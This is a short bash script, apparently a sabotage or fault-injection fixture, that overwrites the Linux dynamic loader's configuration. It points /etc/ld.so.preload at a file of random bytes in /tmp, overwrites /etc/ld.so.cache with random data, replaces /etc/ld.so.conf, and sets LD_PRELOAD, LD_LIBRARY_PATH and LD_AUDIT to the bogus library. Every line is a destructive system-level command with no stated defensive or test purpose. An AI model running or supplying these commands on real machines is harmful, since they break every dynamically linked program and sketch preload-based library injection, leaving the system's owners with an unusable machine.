#!/usr/bin/env bash
# Has the loader put a library of its own into every program: ld.so.preload, LD_PRELOAD, and a false loader's cache.
echo /tmp/false.so > /etc/ld.so.preload
head -c 4096 /dev/urandom > /tmp/false.so
head -c 4096 /dev/urandom > /etc/ld.so.cache
echo /tmp > /etc/ld.so.conf
export LD_PRELOAD=/tmp/false.so LD_LIBRARY_PATH=/tmp LD_AUDIT=/tmp/false.so
